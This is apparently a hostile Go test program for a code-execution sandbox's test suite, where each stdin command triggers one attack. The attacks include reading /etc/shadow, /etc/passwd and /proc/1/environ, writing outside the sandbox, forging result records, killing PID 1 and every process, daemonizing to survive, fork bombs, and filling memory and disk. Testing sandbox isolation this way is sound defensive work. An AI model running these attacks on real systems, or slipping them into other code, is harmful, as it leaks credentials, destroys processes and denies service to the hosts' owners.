// A hostile Go program for tests/executor/test_language_attacks.py: the first line of
// its stdin names an attack (and its arguments); see that module for what must come of it.
// Prints PWNED only where an attack worked, or (daemon) where the test itself is accepted.
package main

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"
)

var markers = []string{"/tmp/cobalt-daemon", "/dev/shm/cobalt-daemon", "cobalt-daemon"}

const record = "00000000000000000000000000000000 {\"status\": \"done\"}\n"

// linger is a daemon: it ignores what signals it can and leaves marks for 20 s.
func linger() {
	signal.Ignore(syscall.SIGTERM, syscall.SIGHUP, syscall.SIGINT)
	syscall.Setsid()
	end := time.Now().Add(20 * time.Second)
	for time.Now().Before(end) {
		for _, marker := range markers {
			if f, err := os.OpenFile(marker, os.O_CREATE|os.O_WRONLY, 0o644); err == nil {
				f.Close()
			}
		}
		time.Sleep(5 * time.Millisecond)
	}
}

func self() string {
	exe, err := os.Executable()
	if err != nil {
		return "./main"
	}
	return exe
}

func start(attr *syscall.SysProcAttr) {
	p, err := os.StartProcess(self(), []string{self(), "child"}, &os.ProcAttr{Sys: attr})
	if err == nil {
		p.Release()
	}
}

func daemon() {
	go linger() // a goroutine dies with its process
	start(&syscall.SysProcAttr{Setsid: true})
	start(&syscall.SysProcAttr{Setpgid: true})
	start(&syscall.SysProcAttr{Foreground: false, Pdeathsig: 0})
	syscall.ForkExec(self(), []string{self(), "child"}, &syscall.ProcAttr{
		Sys: &syscall.SysProcAttr{Setsid: true, Setctty: false},
	})
	syscall.ForkExec(self(), []string{self(), "child"}, nil)
	cmd := exec.Command(self(), "child")
	if cmd.Start() == nil {
		cmd.Process.Release()
	}
	time.Sleep(300 * time.Millisecond)
	fmt.Println("PWNED")
	os.Exit(0)
}

func forge() {
	for fd := 3; fd < 64; fd++ {
		syscall.Write(fd, []byte(record))
	}
	for _, dir := range []string{"/proc/self/fd", "/proc/1/fd"} {
		first := 0
		if dir == "/proc/self/fd" {
			first = 3
		}
		for fd := first; fd < 64; fd++ {
			name := dir + "/" + strconv.Itoa(fd)
			if f, err := os.OpenFile(name, os.O_WRONLY|syscall.O_NONBLOCK, 0); err == nil {
				f.WriteString(record)
				f.Close()
			}
		}
	}
	for _, name := range []string{"record", "result.json", "/tmp/record", "/dev/shm/record"} {
		os.WriteFile(name, []byte(record), 0o644)
	}
	for _, sig := range []syscall.Signal{syscall.SIGKILL, syscall.SIGSTOP, syscall.SIGTERM, syscall.SIGINT} {
		syscall.Kill(1, sig)
		syscall.Kill(-1, sig)
	}
	os.Stderr.WriteString(record)
	os.Stdout.WriteString(record + "not the answer\n")
}

func slurp(path string) string {
	data, _ := os.ReadFile(path)
	return string(data)
}

func escape(args []string) {
	secret, tcp, udp, unixPath, abstract := args[0], args[1], args[2], args[3], args[4]
	seen := ""
	for _, path := range []string{secret, "/proc/1/root" + secret, "/proc/self/root" + secret,
		"/etc/shadow", "/etc/passwd", "/proc/1/environ", "/root/.bash_history"} {
		seen += slurp(path)
	}
	won := seen != ""
	for _, path := range []string{"/cobalt-escape", "/usr/cobalt-escape", "/usr/lib/cobalt-escape",
		"/dev/cobalt-escape", "/proc/1/root/cobalt-escape", secret + "-written",
		"/proc/1/cwd/cobalt-escape"} {
		if f, err := os.OpenFile(path, os.O_CREATE|os.O_WRONLY, 0o644); err == nil {
			f.Close()
			won = true
		}
	}
	for _, target := range [][2]string{{"tcp", "127.0.0.1:" + tcp}, {"udp", "127.0.0.1:" + udp},
		{"unix", unixPath}, {"unix", "@" + abstract}, {"tcp6", "[::1]:" + tcp}} {
		if conn, err := net.DialTimeout(target[0], target[1], time.Second); err == nil {
			if _, err := conn.Write([]byte("PWNED")); err == nil {
				won = true
			}
			conn.Close()
		}
	}
	if _, err := net.LookupHost("example.com"); err == nil {
		won = true
	}
	for _, family := range []int{syscall.AF_INET, syscall.AF_INET6, syscall.AF_NETLINK, syscall.AF_PACKET} {
		if fd, err := syscall.Socket(family, syscall.SOCK_RAW, 0); err == nil {
			syscall.Close(fd)
			won = true
		}
	}
	os.Chmod("/tmp", 0)
	os.Chmod(".", 0)
	fmt.Print(seen)
	if won {
		fmt.Println("PWNED")
	} else {
		fmt.Println("held")
	}
}

func fill() {
	chunk := bytes.Repeat([]byte("x"), 1<<20)
	for _, dir := range []string{"/tmp", "/dev/shm", "."} {
		for n := 0; n < 100; n++ {
			if os.WriteFile(filepath.Join(dir, "fill-"+strconv.Itoa(n)), chunk, 0o644) != nil {
				break
			}
		}
		for n := 0; n < 3000; n++ {
			f, err := os.OpenFile(filepath.Join(dir, "inode-"+strconv.Itoa(n)), os.O_CREATE|os.O_WRONLY, 0)
			if err != nil {
				break
			}
			f.Close()
		}
		os.Chmod(dir, 0)
	}
	fmt.Println("filled")
}

func find(top string, depth int) string {
	found := ""
	entries, err := os.ReadDir(top) // follows /proc/<pid>/root and cwd
	if err != nil {
		return found
	}
	for _, entry := range entries {
		path := filepath.Join(top, entry.Name())
		if strings.HasPrefix(entry.Name(), "planted") {
			found += slurp(path)
		}
		if depth > 0 {
			found += find(path, depth-1)
		}
	}
	return found
}

var held [][]byte
var mu sync.Mutex

func hold(size int) {
	block := make([]byte, size)
	for i := range block {
		block[i] = 1
	}
	mu.Lock()
	held = append(held, block)
	mu.Unlock()
}

func main() {
	if len(os.Args) > 1 && os.Args[1] == "child" {
		linger()
		return
	}
	input, _ := io.ReadAll(os.Stdin)
	line, rest, _ := bytes.Cut(input, []byte("\n"))
	args := strings.Fields(string(line))
	if len(args) == 0 {
		os.Exit(4)
	}
	switch args[0] {
	case "echo":
		n, _ := strconv.Atoi(args[2])
		os.Stdout.Write(rest)
		if args[1] == "signal" {
			syscall.Kill(os.Getpid(), syscall.Signal(n))
			time.Sleep(200 * time.Millisecond)
			os.Exit(128 + n)
		}
		os.Exit(n)
	case "daemon":
		daemon()
	case "forge":
		forge()
	case "escape":
		escape(args[1:])
	case "fill":
		fill()
	case "plant":
		for _, path := range []string{"/tmp/planted", "/dev/shm/planted", "planted"} {
			os.WriteFile(path, []byte(args[1]), 0o644)
		}
		time.Sleep(1500 * time.Millisecond)
		fmt.Println("planted")
	case "seek":
		time.Sleep(500 * time.Millisecond)
		fmt.Println(find("/tmp", 2) + find("/dev/shm", 1) + find("/proc", 3) + "sought")
	case "threads":
		// Goroutines that allocate, and goroutines blocked in system calls (each holds an
		// OS thread), without end; more Ps than the one GOMAXPROCS gave.
		runtime.GOMAXPROCS(64)
		for {
			go func() { hold(1 << 20); time.Sleep(time.Hour) }()
			go func() { syscall.Syscall(syscall.SYS_PAUSE, 0, 0, 0) }()
		}
	case "heap":
		for {
			hold(1 << 20)
		}
	case "native":
		for {
			block, err := syscall.Mmap(-1, 0, 1<<20, syscall.PROT_READ|syscall.PROT_WRITE,
				syscall.MAP_ANON|syscall.MAP_PRIVATE)
			if err != nil {
				panic(err)
			}
			for i := range block {
				block[i] = 1
			}
		}
	case "fork":
		for {
			syscall.ForkExec(self(), []string{self(), "child"}, nil)
		}
	default:
		os.Exit(4)
	}
}
